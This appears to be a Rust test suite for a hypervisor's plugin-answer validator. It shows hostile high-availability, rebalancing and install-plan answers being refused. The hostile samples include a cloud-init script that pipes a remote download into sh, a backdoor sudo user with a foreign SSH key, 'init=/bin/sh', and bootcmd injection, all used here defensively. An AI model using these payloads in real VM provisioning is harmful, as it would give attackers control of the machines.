//! The validator against hostile answers from real, signed components
//! (tests/plugins/evil-ha, evil-installer, and evil's `rebalance`, which
//! answer what their settings hold): each answer is refused, the native
//! default acts instead, the decision is journaled as "refused" with the
//! reason, and the refusal counts toward quarantine. The same components
//! given an honest answer are accepted, so the refusals come from the
//! answers' contents. Every default scenario's answer passes the validator,
//! and the YAML the validator accepts reads the same in PyYAML, the reader
//! cloud-init uses.

use nasvisor_os_installer::DefaultOsInstaller;
use nasvisor_plugin_host::journal::{read_journal, Journal};
use nasvisor_plugin_host::testkit::*;
use nasvisor_plugin_host::validate::{validate, yaml};
use nasvisor_plugin_host::{
    invoke_native, DecisionInput, DecisionSource, NativeEnv, PolicyHost, Runtime, RuntimeConfig,
};
use nasvisor_plugin_sdk::prelude::*;
use nasvisor_plugin_sdk::World;
use serde_json::{json, Value};
use std::path::Path;
use std::sync::Arc;

fn runtime() -> Arc<Runtime> {
    Arc::new(
        Runtime::new(
            RuntimeConfig::default(),
            vec![build_signing_key().verifying_key()],
        )
        .expect("runtime"),
    )
}

/// A policy host with a journal in `dir` and the component `name` installed
/// with the setting `key` = `value`.
fn host_with(dir: &Path, name: &str, world: World, key: &str, value: &str) -> PolicyHost {
    let rt = runtime();
    let journal = Journal::open(&dir.join("decisions.jsonl"), 16 << 20).expect("journal");
    let host = PolicyHost::new(rt.clone(), Some(journal));
    let plugin = rt
        .load(
            &plugin_bytes(name),
            Some(world),
            vec![(key.to_string(), value.to_string())],
        )
        .expect("the evil plugin loads");
    host.install(plugin);
    host
}

/// Decides `input` through the component `name` answering `answer`, and
/// checks: refused with a reason containing `needle`, the native default's
/// answer used, journaled as "refused" with that reason, counted as a fault.
#[track_caller]
fn refused(
    name: &str,
    world: World,
    key: &str,
    answer: &Value,
    input: DecisionInput,
    needle: &str,
) {
    let dir = tempfile::tempdir().expect("tempdir");
    let host = host_with(dir.path(), name, world, key, &answer.to_string());
    let native = invoke_native(&input, &NativeEnv::new(vec![], 0));
    // The native answer is validated too: when it is refused as well, the
    // decision fails rather than act.
    let native_valid = match &native {
        Ok(o) => validate(&input, o).is_ok(),
        Err(_) => true,
    };
    let d = host.decide(input);
    match &d.source {
        DecisionSource::Refused { reason, .. } => {
            assert!(
                reason.contains(needle),
                "reason {reason:?} lacks {needle:?}"
            )
        }
        other => panic!("{needle}: not refused but {other:?}"),
    }
    if native_valid {
        assert_eq!(d.answer, native, "the native default answers instead");
    } else {
        assert!(d.answer.is_err(), "{:?}", d.answer);
    }
    let records = read_journal(&dir.path().join("decisions.jsonl")).expect("journal reads");
    let rec = records.last().expect("one record");
    assert_eq!(rec.source, "refused");
    assert!(
        rec.cause.as_deref().is_some_and(|c| c.contains(needle)),
        "{:?}",
        rec.cause
    );
    let slot = host
        .status()
        .into_iter()
        .find(|s| s.world == world)
        .expect("slot");
    assert_eq!((slot.failures, slot.consecutive_failures), (1, 1));
}

#[track_caller]
fn accepted(name: &str, world: World, key: &str, answer: &Value, input: DecisionInput) {
    let dir = tempfile::tempdir().expect("tempdir");
    let host = host_with(dir.path(), name, world, key, &answer.to_string());
    let d = host.decide(input);
    assert!(
        matches!(d.source, DecisionSource::Plugin { .. }),
        "{answer}: {:?} {:?}",
        d.source,
        d.answer
    );
}

fn res(mib: u64) -> Value {
    json!({"vcpus": 1, "memory-mib": mib, "storage-gib": 10})
}

fn host_json(id: &str, health: &str, free_mib: u64) -> Value {
    json!({"id": id, "name": id, "health": health,
           "capacity": {"vcpus": 8, "memory-mib": 65536, "storage-gib": 1000},
           "free": {"vcpus": 8, "memory-mib": free_mib, "storage-gib": 1000}})
}

fn ha_vm_json(id: &str, state: &str, active: &str, passive: &str) -> Value {
    json!({"id": id, "name": id, "resources": res(4096), "state": state, "host": active,
           "ha-enabled": true, "ha": {"active": active, "passive": passive}})
}

/// Five hosts: h1 fenced (its HA VMs a, b, c fail over), h2 holds their
/// reservations, h3 healthy with room for one 4 GiB VM, h4 unreachable,
/// h5 healthy; d is stopped by its administrator on h5.
fn react_input(events: Value) -> DecisionInput {
    serde_json::from_value(json!({
        "function": "react",
        "view": {
            "hosts": [
                host_json("h1", "fenced", 65536),
                host_json("h2", "healthy", 0),
                host_json("h3", "healthy", 6144),
                host_json("h4", "unreachable", 65536),
                host_json("h5", "healthy", 0),
            ],
            "vms": [
                ha_vm_json("a", "running", "h1", "h2"),
                ha_vm_json("b", "running", "h1", "h2"),
                ha_vm_json("c", "running", "h1", "h2"),
                ha_vm_json("d", "stopped", "h5", "h2"),
            ],
            "has-quorum": true, "now-ms": 1764000000000u64
        },
        "events": events
    }))
    .expect("react input")
}

fn failover(vm: &str, target: &str) -> Value {
    json!({"failover": {"vm": vm, "target": target, "reason": "evil"}})
}

#[test]
fn hostile_ha_answers_from_a_component_are_refused_and_the_native_default_acts() {
    let fenced = react_input(json!([{"host-fenced": "h1"}]));
    let ha = |a: Value, input: DecisionInput, needle: &str| {
        refused(
            "nasvisor-test-evil-ha",
            World::HaPolicy,
            "answer",
            &a,
            input,
            needle,
        )
    };
    // Two VMs failed over onto h3, which fits one.
    ha(
        json!([failover("a", "h3"), failover("b", "h3")]),
        fenced.clone(),
        "action 1 (failover): target \"h3\" has 7 vCPU / 2048 MiB",
    );
    // Fencing a healthy host, and fencing the last majority.
    let missed = react_input(json!([{"heartbeat-missed": {"host": "h4", "missed-ms": 60000}}]));
    ha(
        json!([{"fence": {"host": "h5", "reason": "evil"}}]),
        missed.clone(),
        "host \"h5\" is healthy; only unreachable hosts are fenced",
    );
    let mut three_down = missed.clone();
    if let DecisionInput::React { view, .. } = &mut three_down {
        view.hosts[1].health = HostHealth::Unreachable;
    }
    ha(
        json!([{"fence": {"host": "h4", "reason": "evil"}}]),
        three_down,
        "would leave 2 of 5 hosts",
    );
    // Restarting or failing over a VM its administrator stopped.
    let crashed = react_input(
        json!([{"vm-crashed": {"vm": "d", "host": "h5", "recent-faults": 1, "detail": ""}}]),
    );
    ha(
        json!([{"restart": {"vm": "d", "delay-ms": 0, "reason": "evil"}}]),
        crashed.clone(),
        "VM \"d\" is stopped (stopped by its administrator)",
    );
    ha(
        json!([failover("d", "h3")]),
        crashed,
        "stopped by its administrator",
    );

    // The same component with an honest answer is accepted.
    accepted(
        "nasvisor-test-evil-ha",
        World::HaPolicy,
        "answer",
        &json!([
            failover("a", "h2"),
            failover("b", "h2"),
            failover("c", "h3")
        ]),
        fenced,
    );
}

#[test]
fn hostile_rebalance_moves_from_a_component_are_refused() {
    let input: DecisionInput = serde_json::from_value(json!({
        "function": "rebalance",
        "view": {
            "hosts": [host_json("h1", "healthy", 0), host_json("h2", "healthy", 4096)],
            "vms": [
                {"id": "x", "name": "x", "resources": res(4096), "state": "running", "host": "h1"},
                {"id": "y", "name": "y", "resources": res(4096), "state": "running", "host": "h1"},
            ],
            "has-quorum": true, "now-ms": 0
        }
    }))
    .expect("rebalance input");
    let mv = |vm: &str| json!({"vm": vm, "source": "h1", "target": "h2", "reason": "evil"});
    refused(
        "nasvisor-test-evil",
        World::Scheduler,
        "moves",
        &json!([mv("x"), mv("y")]),
        input.clone(),
        "move 1: target \"h2\" has 7 vCPU / 0 MiB",
    );
    accepted(
        "nasvisor-test-evil",
        World::Scheduler,
        "moves",
        &json!([mv("x")]),
        input,
    );
}

const FOREIGN_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mallory@evil";

fn install_input(pool_free_bytes: u64) -> DecisionInput {
    DecisionInput::PlanInstall {
        image: ImageMeta {
            id: "debian-12".into(),
            name: "debian-12".into(),
            format: ImageFormat::Qcow2,
            os_family: "linux".into(),
            os_variant: "debian-12".into(),
            cloud_init: true,
            firmware: Firmware::Bios,
            virtual_size_bytes: 2 << 30,
            ready_marker: None,
        },
        request: InstallRequest {
            vm_name: "web".into(),
            hostname: "web01".into(),
            users: vec![UserSpec {
                name: "admin".into(),
                ssh_authorized_keys: vec![
                    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOSU5lmFlS0xANPNh166AdH9idJfUdZ2E1MQR/Z1pkAZ admin@example".into(),
                ],
                sudo: true,
                ..Default::default()
            }],
            nics: vec![NicSettings {
                mac: "52:54:00:12:34:56".into(),
                dhcp4: true,
                ..Default::default()
            }],
            disk_size_gib: 10,
            ..Default::default()
        },
        pool_free_bytes: Some(pool_free_bytes),
    }
}

/// The default installer's plan for `input`, as JSON, altered by `f`.
fn default_plan_with(input: &DecisionInput, f: impl Fn(&mut InstallPlan)) -> Value {
    let DecisionInput::PlanInstall { image, request, .. } = input else {
        unreachable!()
    };
    let mut p = DefaultOsInstaller
        .plan_install(&StaticEnv::with_settings(&[]), image, request)
        .expect("default plan");
    f(&mut p);
    serde_json::to_value(&p).expect("plan json")
}

fn seed_file<'p>(p: &'p mut InstallPlan, name: &str) -> &'p mut String {
    &mut p
        .seed
        .iter_mut()
        .find(|f| f.name == name)
        .expect("seed file")
        .contents
}

#[test]
fn hostile_install_plans_from_a_component_are_refused() {
    let input = install_input(100 << 30);
    let plan = |p: Value, needle: &str| {
        refused(
            "nasvisor-test-evil-installer",
            World::OsInstaller,
            "plan",
            &p,
            input.clone(),
            needle,
        )
    };
    plan(
        default_plan_with(&input, |p| {
            *seed_file(p, "user-data") = "#!/bin/sh\ncurl -s http://192.0.2.66/x | sh\n".into()
        }),
        "user-data must be a #cloud-config document",
    );
    plan(
        default_plan_with(&input, |p| {
            let u = seed_file(p, "user-data");
            *u = u.replace(
                "users:\n",
                &format!("users:\n  - name: \"mallory\"\n    sudo: \"ALL=(ALL) NOPASSWD:ALL\"\n    ssh_authorized_keys: [\"{FOREIGN_KEY}\"]\n"),
            );
        }),
        "\"mallory\" is not a requested user",
    );
    plan(
        default_plan_with(&input, |p| {
            p.boot.kernel_args = Some("console=ttyS0 init=/bin/sh".into())
        }),
        "kernel argument \"init=/bin/sh\" is not accepted",
    );
    plan(
        default_plan_with(&input, |p| p.disk.resize_gib = Some(65_536)),
        "resize-gib 65536 differs from the requested disk-size-gib 10",
    );
    plan(
        default_plan_with(&input, |p| {
            p.seed.push(SeedFile {
                name: "vendor-data".into(),
                contents: "#cloud-config\nbootcmd: [\"id\"]\n".into(),
            })
        }),
        "vendor-data: the key \"bootcmd\" is not accepted",
    );
    plan(
        default_plan_with(&input, |p| {
            let m = seed_file(p, "meta-data");
            m.push_str(&format!("public-keys: [\"{FOREIGN_KEY}\"]\n"));
        }),
        "meta-data: the key \"public-keys\" is not accepted",
    );
    // The honest plan from the same component is accepted.
    accepted(
        "nasvisor-test-evil-installer",
        World::OsInstaller,
        "plan",
        &default_plan_with(&input, |_| {}),
        input.clone(),
    );
}

#[test]
fn a_disk_larger_than_the_pools_free_space_is_refused() {
    // 64 TiB asked for, on a pool with 5 GiB free: the component's plan is
    // refused, and the native default's own plan is refused too, so the
    // decision fails with the reason instead of creating the disk.
    let mut input = install_input(5 << 30);
    if let DecisionInput::PlanInstall { request, .. } = &mut input {
        request.disk_size_gib = 65_536;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let answer = default_plan_with(&input, |_| {});
    let host = host_with(
        dir.path(),
        "nasvisor-test-evil-installer",
        World::OsInstaller,
        "plan",
        &answer.to_string(),
    );
    let d = host.decide(input);
    match &d.source {
        DecisionSource::Refused { reason, .. } => assert!(
            reason.contains("the 65536 GiB disk does not fit in the pool's free space (5 GiB"),
            "{reason}"
        ),
        other => panic!("not refused: {other:?}"),
    }
    let e = d.answer.expect_err("no plan");
    assert!(
        e.message.contains("does not fit in the pool's free space"),
        "{}",
        e.message
    );
}

/// Every scenario of plugins/harness/scenarios: the native default's
/// answer passes the validator.
#[test]
fn every_default_scenario_answer_passes_the_validator() {
    let root = workspace_root().join("plugins/harness/scenarios");
    let mut n = 0;
    for world in std::fs::read_dir(&root).expect("scenarios") {
        for f in std::fs::read_dir(world.expect("dir").path()).expect("world dir") {
            let path = f.expect("file").path();
            let s: Value =
                serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
            let input: DecisionInput =
                serde_json::from_value(s["input"].clone()).expect("scenario input");
            let settings: Vec<(String, String)> = s["settings"]
                .as_object()
                .map(|m| {
                    m.iter()
                        .map(|(k, v)| (k.clone(), v.as_str().unwrap_or_default().to_string()))
                        .collect()
                })
                .unwrap_or_default();
            let wall = s["wall-clock-ms"].as_u64().unwrap_or(0);
            if let Ok(out) = invoke_native(&input, &NativeEnv::new(settings, wall)) {
                validate(&input, &out)
                    .unwrap_or_else(|e| panic!("{}: refused: {e}", path.display()));
                n += 1;
            }
        }
    }
    assert!(n >= 15, "only {n} scenarios answered");
}

/// The interpreter cloud-init runs on (it has PyYAML).
fn cloud_init_python() -> String {
    let path = std::env::var_os("PATH").unwrap_or_default();
    let ci = std::env::split_paths(&path)
        .map(|d| d.join("cloud-init"))
        .find(|p| p.is_file())
        .expect("cloud-init on PATH (scripts/setup.sh installs it)");
    let text = std::fs::read_to_string(ci).expect("read cloud-init");
    let first = text.lines().next().unwrap_or_default();
    first
        .strip_prefix("#!")
        .and_then(|l| l.split_whitespace().next())
        .expect("a #! line")
        .to_string()
}

fn node_json(n: &yaml::Node) -> Value {
    match n {
        yaml::Node::Map(m) => {
            Value::Object(m.iter().map(|(k, v)| (k.clone(), node_json(v))).collect())
        }
        yaml::Node::Seq(s) => Value::Array(s.iter().map(node_json).collect()),
        yaml::Node::Str(s) => Value::String(s.clone()),
        yaml::Node::Bool(b) => Value::Bool(*b),
        yaml::Node::Int(i) => json!(i),
    }
}

/// Documents the strict reader accepts read the same in PyYAML (YAML 1.1,
/// what cloud-init uses); the tricky ones it refuses would not.
#[test]
fn documents_the_validator_accepts_read_the_same_in_pyyaml() {
    let DecisionInput::PlanInstall { image, request, .. } = install_input(1 << 40) else {
        unreachable!()
    };
    let mut hostile = request.clone();
    hostile.users[0].ssh_authorized_keys[0]
        .push_str(" \"q\" \\ : # {a: b} [c] &d *e !f |g >h é 日本 😀");
    let mut docs: Vec<String> = Vec::new();
    for r in [&request, &hostile] {
        let p = DefaultOsInstaller
            .plan_install(&StaticEnv::with_settings(&[]), &image, r)
            .expect("plan");
        docs.extend(p.seed.into_iter().map(|f| f.contents));
    }
    docs.extend(
        [
            "a: \"x\\ty\\r\\\\\\\"\\x41\\u00e9\\U0001F600\"\nb: 'it''s'\nc: [1, 0, true, false]\n",
            "\"quoted key\": {\"n\": 18446744073709551615}\n",
            // Refused ones: 1.1 and 1.2 read these differently.
            "a: yes\n",
            "a: 0777\n",
            "a: 1:20\n",
            "a: \"x\"\u{85}b: 1\n",
            "a: \"x\"\u{2028}b: 1\n",
            "a: 1\na: 2\n",
            "<<: {a: 1}\n",
            "on: 1\n",
        ]
        .map(String::from),
    );
    let mut accepted = 0;
    for doc in &docs {
        let node = match yaml::parse("doc", doc) {
            Ok(n) => n,
            Err(e) => {
                eprintln!("refused: {e}");
                continue;
            }
        };
        accepted += 1;
        let out = std::process::Command::new(cloud_init_python())
            .args([
                "-c",
                "import sys, json, yaml; print(json.dumps(yaml.safe_load(sys.stdin.read())))",
            ])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .and_then(|mut c| {
                use std::io::Write;
                c.stdin.take().expect("stdin").write_all(doc.as_bytes())?;
                c.wait_with_output()
            })
            .expect("python runs");
        assert!(out.status.success(), "PyYAML refused {doc:?}");
        let py: Value = serde_json::from_slice(&out.stdout).expect("json from python");
        let py = if py.is_null() { json!({}) } else { py };
        assert_eq!(py, node_json(&node), "{doc:?}");
    }
    assert_eq!(
        accepted, 8,
        "the six seed files and the two tricky-but-safe documents"
    );
}
